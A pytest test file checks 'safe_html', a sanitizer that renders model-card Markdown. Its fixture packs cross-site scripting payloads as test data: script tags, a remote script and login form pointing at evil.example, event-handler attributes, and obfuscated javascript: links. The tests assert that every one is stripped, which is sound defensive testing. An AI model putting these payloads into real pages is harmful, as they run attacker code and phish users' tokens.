from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from retq_hub.gallery.prose import safe_html

HOSTILE = """---
license: cc0-1.0
title: <script>alert("head")</script>
---
# A card <script>alert(1)</script>

<script src="//evil.example/x.js"></script>
<img src=x onerror=alert(2)> <svg onload=alert(3)></svg>
<form action="https://evil.example/"><input name="token"><button>Log in</button></form>
<iframe src="https://evil.example/"></iframe><style>body { display: none }</style>

[script](javascript:alert(4)) [upper](JaVaScRiPt:alert(5)) [data](data:text/html,<b>x</b>)
[entity](java&#115;cript:alert(6)) [here](/apply) [web](https://example.org/a "title")
![tracker](https://evil.example/pixel.png) ![own](overlay.jpg)
<javascript:alert(7)> <https://example.org/b>

| a | b |
|---|---|
| <b onclick=alert(8)>x</b> | **bold** |
"""

ALLOWED = {
    *("p", "br", "hr", "blockquote", "pre", "code", "em", "strong", "del", "a", "ul", "ol", "li"),
    *("h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"),
}


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, dict(attrs)))


def tags(card: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = Tags()
    parser.feed(safe_html(card))
    return parser.seen


def assert_harmless(card: str) -> None:
    for tag, attributes in tags(card):
        assert tag in ALLOWED
        assert attributes.keys() <= {"href", "title", "rel", "start"}
        assert (attributes.get("href") or "https:").startswith(("http:", "https:", "mailto:"))


def test_a_hostile_card_is_text_and_links_to_the_web():
    assert_harmless(HOSTILE)
    links = [attributes.get("href") for tag, attributes in tags(HOSTILE) if tag == "a"]
    assert [one for one in links if one] == ["https://example.org/a", "https://example.org/b"]


def test_links_carry_nothing_along():
    ((_, attributes),) = [one for one in tags("[x](https://example.org)") if one[0] == "a"]
    assert attributes["rel"] == "nofollow noopener noreferrer"


@given(st.text("<>&;:/[]()!#|`*_-= \nabjx\"'", max_size=80))
def test_no_text_gives_another_tag(card):
    assert_harmless(card)


def test_the_head_is_left_out():
    assert safe_html("---\ntags:\n- retq\n---\n\ntext") == "<p>text</p>\n"
    assert "tags" not in safe_html("---\r\ntags:\r\n---\r\ntext")


def test_a_rule_further_down_is_no_head():
    assert "before" in safe_html("before\n\n---\n\nafter\n\n---\n")


def test_headings_go_below_those_of_the_page():
    assert [tag for tag, _ in tags("# a\n\n## b\n\n###### c")] == ["h3", "h4", "h6"]


@pytest.mark.parametrize(
    ("picture", "html"),
    [
        ("![what it marks](overlay.jpg)", "<p></p>\n"),
        ("![a < b](https://example.org/x.png)", "<p>a &lt; b</p>\n"),
    ],
)
def test_of_a_picture_its_text_is_left_if_it_is_remote(picture, html):
    assert safe_html(picture) == html


def test_tables_and_code_are_rendered():
    seen = [tag for tag, _ in tags("| a |\n|---|\n| 1 |\n\n```python\nx = 1\n```")]
    assert seen == ["table", "thead", "tr", "th", "tbody", "tr", "td", "pre", "code"]


def test_the_marks_of_a_card_are_not_shown():
    card = "<!-- retq: notes -->\nMine.\n<!-- retq: end of notes -->\n\n<!-- retq: card of - -->"
    assert safe_html(card) == "<p>Mine.</p>\n"


def test_a_card_without_end_is_cut():
    assert len(safe_html("word " * 1_000_000)) < 300_000


def test_deep_nesting_ends():
    assert_harmless(">" * 5000 + "x" + "[" * 5000)
